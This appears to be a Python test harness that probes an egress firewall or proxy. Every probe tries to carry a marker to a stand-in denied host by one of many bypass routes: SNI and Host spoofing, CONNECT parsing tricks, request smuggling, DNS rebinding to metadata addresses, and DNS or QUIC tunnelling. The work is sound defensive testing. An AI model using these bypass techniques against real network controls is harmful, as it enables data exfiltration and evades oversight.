# SPDX-License-Identifier: GPL-3.0-or-later
"""Ways to reach a host that is not allowed: each carries a mark to it.

    probes.py NAME MARK

Each is written as an attacker would write it who knows the doors. Without the firewall the same line reaches its
host: that is checked by the same test. PROBE_PROXY is the forward proxy to try: keyward's inside, one that checks
nothing outside.
"""
import os
import socket
import ssl
import struct
import sys
import time

name, MARK = sys.argv[1], sys.argv[-1]
PROXY = os.environ.get("PROBE_PROXY", "127.0.0.1:1").rsplit(":", 1)
PROXY = (PROXY[0], int(PROXY[1]))
DENIED = "203.0.113.20"
PATIENCE = 3

probes = {}


def probe(function):
    probes[function.__name__] = function
    return function


def tcp(host, port):
    return socket.create_connection((host, port), PATIENCE)


def tls(sock, sni):
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    return context.wrap_socket(sock, server_hostname=sni)


def get(sock, host, path=None, more=""):
    path = path or "/" + MARK
    sock.sendall(f"GET {path} HTTP/1.1\r\nHost: {host}\r\n{more}\r\n".encode())
    return sock.recv(65536)


def connect(authority, host_header=None):
    sock = tcp(*PROXY)
    sock.sendall(f"CONNECT {authority} HTTP/1.1\r\nHost: {host_header or authority}\r\n\r\n".encode("latin-1"))
    answer = b""
    while b"\r\n\r\n" not in answer:
        data = sock.recv(65536)
        if not data:
            raise OSError("closed")
        answer += data
    if b" 200 " not in answer.split(b"\r\n")[0]:
        raise OSError(answer.decode("latin-1"))
    return sock


def absolute(target, host, more=""):
    sock = tcp(*PROXY)
    sock.sendall(f"GET {target} HTTP/1.1\r\nHost: {host}\r\n{more}\r\n".encode("latin-1"))
    return sock, sock.recv(65536)


def hello(sni, extra=b"", pad=0):
    """A ClientHello that OpenSSL answers, with one more extension."""
    def ext(number, body):
        return struct.pack("!HH", number, len(body)) + body
    name = sni.encode()
    extensions = ext(0, struct.pack("!HBH", len(name) + 3, 0, len(name)) + name)
    extensions += ext(10, b"\0\x02\0\x17") + ext(11, b"\x01\0") + ext(13, b"\0\x08\x04\x03\x08\x04\x04\x01\x02\x01")
    extensions += extra + (ext(21, bytes(pad)) if pad else b"")
    body = b"\x03\x03" + bytes(32) + b"\0" + b"\0\x06\xc0\x2b\xc0\x2f\xc0\x30" + b"\x01\0"
    body += struct.pack("!H", len(extensions)) + extensions
    message = b"\x01" + struct.pack("!I", len(body))[1:] + body
    records = b""
    for at in range(0, len(message), 16000):
        part = message[at:at + 16000]
        records += b"\x16\x03\x01" + struct.pack("!H", len(part)) + part
    return records


def question(name, kind):
    labels = b"".join(bytes([len(it)]) + it.encode() for it in name.split("."))
    return struct.pack("!HHHHHH", 4242, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", kind, 1)


# By address.

@probe
def address_tls():
    get(tls(tcp(DENIED, 443), "denied.test"), "denied.test")


@probe
def address_http():
    get(tcp(DENIED, 80), "denied.test")


@probe
def address_http_with_an_allowed_host():
    get(tcp(DENIED, 80), "allowed.test")


@probe
def address_tcp():
    tcp(DENIED, 5555).sendall(MARK.encode())


@probe
def address_mapped():
    sock = socket.socket(socket.AF_INET6)
    sock.settimeout(PATIENCE)
    sock.connect(("::ffff:" + DENIED, 80))
    get(sock, "denied.test")


# By another name's SNI or Host.

@probe
def allowed_sni_to_a_denied_address():
    get(tls(tcp(DENIED, 443), "allowed.test"), "allowed.test")


@probe
def denied_sni_through_an_allowed_name():
    get(tls(tcp("allowed.test", 443), "denied.test"), "denied.test", "/" + MARK)


@probe
def denied_host_through_an_allowed_name():
    get(tcp("allowed.test", 80), "denied.test")


@probe
def denied_name_tls():
    get(tls(tcp("denied.test", 443), "denied.test"), "denied.test")


@probe
def denied_name_http():
    get(tcp("denied.test", 80), "denied.test")


@probe
def denied_name_ssh():
    sock = tcp("denied.test", 22)
    sock.recv(100)
    sock.sendall(MARK.encode())


@probe
def denied_port_of_an_allowed_name():
    tcp("allowed.test", 5555).sendall(MARK.encode())


@probe
def opaque_bytes_at_the_tls_port():
    sock = tcp("allowed.test", 443)
    sock.sendall(b"\0" + MARK.encode())
    time.sleep(0.3)


# By CONNECT.

@probe
def connect_denied():
    get(tls(connect("denied.test:443"), "denied.test"), "denied.test")


@probe
def connect_address():
    get(tls(connect(DENIED + ":443"), "allowed.test"), "allowed.test")


@probe
def connect_other_port():
    connect("allowed.test:5555").sendall(MARK.encode())


@probe
def connect_denied_host_header():
    get(tls(connect("denied.test:443", "allowed.test:443"), "allowed.test"), "allowed.test")


@probe
def connect_allowed_sni_denied():
    get(tls(connect("allowed.test:443"), "denied.test"), "denied.test")


@probe
def connect_plain_with_a_denied_host():
    get(connect("allowed.test:80"), "denied.test")


@probe
def connect_trailing_dot():
    get(tls(connect("denied.test.:443"), "denied.test"), "denied.test")


@probe
def connect_nul():
    get(tls(connect("denied.test\0.allowed.test:443"), "denied.test"), "denied.test")


@probe
def connect_userinfo():
    get(tls(connect("allowed.test@denied.test:443"), "denied.test"), "denied.test")


@probe
def connect_smtp():
    sock = connect("denied.test:25")
    sock.recv(100)
    sock.sendall(MARK.encode())


# By absolute form.

@probe
def absolute_denied():
    absolute("http://denied.test/" + MARK, "denied.test")


@probe
def absolute_denied_with_an_allowed_host():
    absolute("http://denied.test/" + MARK, "allowed.test")


@probe
def absolute_userinfo():
    absolute("http://allowed.test@denied.test/" + MARK, "allowed.test")


@probe
def absolute_address():
    absolute(f"http://{DENIED}/" + MARK, "allowed.test")


@probe
def absolute_case_and_dot():
    absolute("http://DENIED.Test./" + MARK, "denied.test")


@probe
def absolute_punycode():
    absolute("http://xn--bcher-kva.test/" + MARK, "xn--bcher-kva.test")


# Later on a connection that began well.

@probe
def second_request():
    sock = tcp("allowed.test", 80)
    get(sock, "allowed.test", "/first")
    get(sock, "denied.test")


@probe
def second_request_at_the_proxy():
    sock, _ = absolute("http://allowed.test/first", "allowed.test")
    sock.sendall(f"GET http://denied.test/{MARK} HTTP/1.1\r\nHost: denied.test\r\n\r\n".encode())
    sock.recv(65536)


@probe
def second_request_pipelined():
    sock = tcp("allowed.test", 80)
    sock.sendall((f"GET /first HTTP/1.1\r\nHost: allowed.test\r\n\r\n"
                  f"GET /{MARK} HTTP/1.1\r\nHost: denied.test\r\n\r\n").encode())
    time.sleep(0.5)


@probe
def smuggled_request():
    inner = f"GET /{MARK} HTTP/1.1\r\nHost: denied.test\r\n\r\n"
    sock = tcp("allowed.test", 80)
    sock.sendall((f"POST /first HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: xchunked\r\n"
                  f"Content-Length: {len(inner)}\r\n\r\n{inner}").encode())
    time.sleep(0.5)


@probe
def http2_prior_knowledge():
    sock = tcp("allowed.test", 80)
    sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(9) + MARK.encode())
    time.sleep(0.3)


@probe
def redirect():
    answer = get(tcp("allowed.test", 80), "allowed.test", "/redirect?to=http://denied.test/" + MARK)
    host = answer.split(b"location: http://")[1].split(b"/")[0].decode()
    get(tcp(host, 80), host)


@probe
def header_over_the_limit():
    sock = tcp("allowed.test", 80)
    get(sock, "allowed.test", more="X: " + "a" * 60000 + "\r\n")


# By the handshake.

@probe
def hello_byte_by_byte():
    sock = tcp("allowed.test", 443)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    for byte in hello(MARK + ".test"):
        sock.sendall(bytes([byte]))
    sock.recv(100)


@probe
def hello_oversized():
    sock = tcp("allowed.test", 443)
    sock.sendall(hello(MARK + ".test", pad=20000))
    sock.recv(100)


@probe
def hello_encrypted():
    sock = tcp("allowed.test", 443)
    sock.sendall(hello("allowed.test", struct.pack("!HH", 0xFE0D, len(MARK)) + MARK.encode()))
    sock.recv(100)


# By names that lead elsewhere.

@probe
def rebinding():
    get(tcp("private.test", 80), "private.test")


@probe
def rebinding_to_metadata():
    get(tcp("metadata.test", 80), "metadata.test")


@probe
def rebinding_to_loopback():
    get(tcp("loopback.test", 80), "loopback.test")


# By datagrams and DNS.

@probe
def quic():
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.sendto(b"\xc0\0\0\0\x01" + MARK.encode(), (DENIED, 443))


@probe
def quic_to_an_allowed_name():
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.sendto(b"\xc0\0\0\0\x01" + MARK.encode(), ("allowed.test", 443))


def ask(kind):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(PATIENCE)
    sock.sendto(question(MARK + ".denied.test", kind), ("203.0.113.53", 53))
    sock.recv(4096)


for kind in (1, 2, 5, 6, 10, 12, 15, 16, 28, 33, 35, 43, 46, 48, 52, 64, 65, 99, 250, 252, 255, 256, 257, 65280):
    probes[f"dns_type_{kind}"] = lambda kind=kind: ask(kind)


@probe
def dns_below_an_allowed_name():
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(PATIENCE)
    sock.sendto(question(MARK + ".allowed.test", 1), ("203.0.113.53", 53))
    sock.recv(4096)


@probe
def dns_by_tcp():
    sock = tcp("203.0.113.53", 53)
    sock.sendall(struct.pack("!H", 40) + question(MARK + ".denied.test", 1))
    time.sleep(0.3)


@probe
def dns_by_tls():
    sock = tls(tcp("203.0.113.53", 853), "resolver.test")
    get(sock, MARK)


@probe
def dns_by_https():
    get(tls(tcp("203.0.113.53", 443), "resolver.test"), "resolver.test", "/dns-query?dns=" + MARK)


@probe
def dns_by_https_through_the_proxy():
    get(tls(connect("203.0.113.53:443"), "resolver.test"), "resolver.test", "/dns-query?dns=" + MARK)


if name == "list":
    print("\n".join(probes))
else:
    try:
        probes[name]()
    except Exception as error:
        print(type(error).__name__, error)
